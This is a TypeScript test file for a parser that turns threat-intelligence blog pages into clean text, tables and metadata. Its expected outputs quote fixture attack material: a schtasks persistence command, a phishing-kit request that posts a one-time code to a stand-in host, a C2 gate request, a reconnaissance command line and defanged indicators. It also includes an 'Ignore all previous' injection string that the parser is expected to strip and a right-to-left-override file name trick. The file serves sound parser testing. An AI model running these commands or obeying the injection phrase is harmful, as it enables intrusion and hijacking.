import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Page } from '@cti/core/content';
import { parsePage } from '../../src/page/parse-page.ts';

const fixture = (name: string) => readFileSync(new URL(`fixtures/${name}.html`, import.meta.url), 'utf8');
const page = (name: string, url = 'https://site.example/2026/post') => parsePage(fixture(name), url);
const blocksOf = ({ content: { text, blocks } }: Page, kind: string) =>
  blocks.filter((block) => block.kind === kind).map(({ start, end }) => text.slice(start, end));

const cases = [
  {
    name: 'wordpress',
    title: 'GrayHeron loader moves to scheduled tasks',
    date: '2026-03-04T16:00:00.000Z',
    authors: ['Ines Okafor'],
    language: 'en-US',
  },
  {
    name: 'ghost',
    title: 'Inside the TinPaper phishing kit',
    date: '2026-05-11T07:30:00.000Z',
    authors: ['Lev Aronson'],
    language: 'en',
  },
  {
    name: 'corporate',
    title: 'Active exploitation of the Orbit VPN flaw',
    date: '2026-06-12T00:00:00.000Z',
    authors: ['Mia Brandt'],
    language: 'en-GB',
  },
  {
    name: 'japanese',
    title: 'マルウェア「灰鷺」の新しい通信方式について',
    date: '2026-04-02T00:00:00.000Z',
    authors: [],
    language: 'ja',
  },
  {
    name: 'cyrillic',
    title: 'Группировка «Серая цапля» сменила инструменты',
    date: '2026-08-05T00:00:00.000Z',
    authors: [],
    language: 'ru',
  },
  {
    name: 'table-heavy',
    title: 'IOC list for operation Low Tide',
    date: '2026-02-03T00:00:00.000Z',
    authors: [],
    language: 'en',
  },
];

const chrome: Record<string, string[]> = {
  wordpress: [
    'Skip to content',
    'tagline',
    'Contact us',
    'Posted on',
    'Tweet',
    'Related',
    'Another loader story',
    'Tagged',
    'Previous:',
    'You may also like',
    'Teaser',
    'thoughts on this',
    'Great write-up',
    'whoami',
    'Leave a Reply',
    'Recent Posts',
    'Sidebar',
    'newsletter',
    'All rights',
    'cookies',
    'Ignore all previous',
    'decorative',
    'injected',
  ],
  ghost: ['Home', 'min read', 'Sign up', 'No spam', 'Another Night Desk', 'teaser', 'Powered by'],
  corporate: [
    'privacy',
    'partners',
    'Under attack',
    'Platform',
    'One agent',
    'Pricing',
    'Blog',
    'min',
    'Share on',
    'LinkedIn',
    'Table of contents',
    'Corvid in action',
    'demo',
    'Related',
    'Five lessons',
    'Popular',
    'registered',
  ],
  japanese: ['ホーム', '会社概要', 'はてな', '関連記事', '別の記事', '無断転載'],
  cyrillic: ['Главная', 'Новости', 'Читайте', 'Чужая', '©'],
  'table-heavy': ['Home', 'FAQ'],
};

describe.each(cases)('the $name page', ({ name, title, date, authors, language }) => {
  it('says its title, date, authors and language', () => {
    const { metadata } = page(name);
    expect(metadata).toMatchObject({ title, authors, language });
    expect(metadata.publishedAt?.toISOString()).toBe(date);
  });

  it('leaks nothing of its menus, banners, comments or related posts', () => {
    const { text } = page(name).content;
    expect(chrome[name]?.filter((words) => text.includes(words))).toEqual([]);
  });

  it('has blocks and links that slice the text exactly', () => {
    const { text, blocks, links } = page(name).content;
    let end = 0;
    for (const [index, block] of blocks.entries()) {
      const between = text.slice(end, block.start);
      const isItem = block.kind === 'list-item' && blocks[index - 1]?.kind === 'list-item';
      expect(between).toBe(index === 0 ? '' : isItem ? '\n' : '\n\n');
      expect(block.end).toBeGreaterThan(block.start);
      end = block.end;
    }
    expect(end).toBe(text.length);
    for (const link of links) {
      expect(text.slice(link.start, link.end).trim()).not.toBe('');
      expect(link.href).toMatch(/^https?:\/\//);
    }
  });
});

it('keeps code to the letter', () => {
  expect(blocksOf(page('wordpress'), 'code')).toEqual([
    'schtasks /create /sc onlogon /tn "HeronUpdate" ^\n    /tr "rundll32.exe C:\\ProgramData\\heron\\svc.dll,Start"\n\tif ($LASTEXITCODE -ne 0) { exit 1 }',
  ]);
  expect(blocksOf(page('ghost'), 'code')).toEqual([
    'POST /t/collect HTTP/1.1\nHost: tinpaper.example\n\ncode=000000&try=2',
  ]);
  expect(blocksOf(page('japanese'), 'code')).toEqual(['GET /gate?id=端末01 HTTP/1.1\n  Host: 灰鷺.example']);
});

it("leaves a highlighter's line numbers out of code", () => {
  expect(blocksOf(page('cyrillic'), 'code')).toEqual(['$имя = "цапля"\n  Start-Process $имя']);
});

it('keeps tables as cells parted by tabs and rows parted by newlines', () => {
  expect(blocksOf(page('table-heavy'), 'table')).toEqual([
    'Type\tValue\tNote\nsha1\tda39a3ee5e6b4b0d3255bfef95601890afd80709\tdropper\nsha1\t2fd4e1c67a2d28fced849ee1bb76e7391b93eb12\tstage two\nmutex\tGlobal\\{A1-B2}\t\ncmd\tcmd.exe /c "whoami && ipconfig"\tseen < 3 times',
    'low-tide[.]example\t10.0.0.5\ntide2[.]example\t10.0.0.6',
  ]);
  expect(blocksOf(page('corporate'), 'table')).toEqual([
    'Address\tFirst seen\n192.0.2.44\t2026-06-09\n198.51.100.9 198.51.100.10\t2026-06-10',
  ]);
});

it('keeps Cyrillic, Chinese, Arabic and curly quotes as they are', () => {
  const { text } = page('cyrillic').content;
  expect(text).toContain('Группа APT29 использует PowerShell — “evil” 北朝鲜');
  expect(text).toContain('كتب المهاجم رسالة قصيرة إلى الضحية');
});

it('keeps blocks whose class names merely contain a word for chrome', () => {
  const wordpress = page('wordpress');
  expect(blocksOf(wordpress, 'heading')).toEqual(['Persistence', 'Network', 'References']);
  for (const kept of ['In late February', 'Sample: 44d88612fea8a8f36de82e1278abb02f', 'YARA rule', 'schtasks /create'])
    expect(wordpress.content.text).toContain(kept);
});

it('keeps a list of references, a nested list and a warning box', () => {
  expect(blocksOf(page('wordpress'), 'list-item')).toEqual([
    'C2: hxxps://cdn-heron[.]example/api/v2',
    'Fallback hosts',
    '198.51.100[.]23',
    '203.0.113[.]77',
    'T1053.005 Scheduled Task',
    'First report on the actor',
    'Second report on the actor',
  ]);
  expect(page('corporate').content.text).toContain('Updating alone does not end stolen sessions.');
});

it('gives images, captions and code languages as blocks of their own', () => {
  const { content } = page('wordpress');
  expect(content.blocks.find(({ kind }) => kind === 'image')).toMatchObject({
    src: 'https://site.example/img/chain.png',
  });
  expect(content.blocks.find(({ kind }) => kind === 'code')).toMatchObject({ language: 'powershell' });
  expect(blocksOf(page('wordpress'), 'caption')).toEqual(['Figure 1: the chain']);
});

it('leaves out of a title what turns the direction of writing', () => {
  const html = '<title>Report \u202egpj.exe\u2069 of May</title><p>Some words of the report.</p>';
  expect(parsePage(html, 'https://lab.example/').metadata.title).toBe('Report gpj.exe of May');
});

it('resolves links and the canonical address against the page', () => {
  const { content, metadata } = page('wordpress', 'https://lab.harbour.example/2026/03/grayheron-loader/');
  const first = content.links[0];
  expect(first?.href).toBe('https://lab.harbour.example/2025/11/first-look/');
  expect(content.text.slice(first?.start, first?.end)).toBe('our first look');
  expect(metadata.canonicalUrl).toBe('https://lab.harbour.example/2026/03/grayheron-loader/');
  expect(metadata.modifiedAt?.toISOString()).toBe('2026-03-06T09:15:00.000Z');
});

it('does not glue words of neighbouring blocks or a footnote mark to a word', () => {
  expect(page('ghost').content.text).toContain('a one-time code twice[1]. The');
  const { text } = parsePage(
    '<article><div>one</div><div>two</div><p>a<br>b</p></article>',
    'https://site.example/',
  ).content;
  expect(text).toBe('one\n\ntwo\n\na\nb');
});
